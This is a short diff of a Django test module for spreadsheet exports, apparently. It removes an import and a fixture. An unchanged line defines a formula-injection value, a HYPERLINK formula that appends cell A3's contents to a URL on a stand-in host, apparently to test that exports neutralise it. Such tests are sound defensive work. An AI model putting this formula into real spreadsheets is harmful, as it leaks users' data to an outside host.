@@ -17,15 +17,10 @@ from meetings.models import Meeting
 from tests.held import hold
 from tests.reviews.pages import MOST_QUERIES, queries
 from tests.reviews.recording import at, put_on_calendar, write_down
-from tests.world import World, build_world
+from tests.world import World
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://a/?"&A3)'
-
-
-@pytest.fixture
-def world() -> World:
-    return build_world()
 
 
 def take(world: World, **typed: object) -> Worksheet:
